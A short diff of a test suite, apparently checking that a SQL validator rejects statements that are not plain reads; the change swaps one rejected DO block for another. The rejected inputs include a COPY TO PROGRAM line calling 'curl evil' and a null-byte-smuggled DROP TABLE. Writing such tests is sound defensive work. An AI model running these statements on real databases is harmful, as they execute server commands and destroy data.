@@ -50,7 +50,7 @@ describe('a read that is none', () => {
     'SELECT 1 FROM customers FOR UPDATE',
     "COPY customers TO PROGRAM 'curl evil'",
     'CALL anything()',
-    'DO $$ BEGIN END $$',
+    "DO $$ BEGIN EXECUTE 'SELECT 1'; END $$",
     'SELEC 1',
     "SELECT 'unfinished",
     'SELECT 1 \0; DROP TABLE customers',
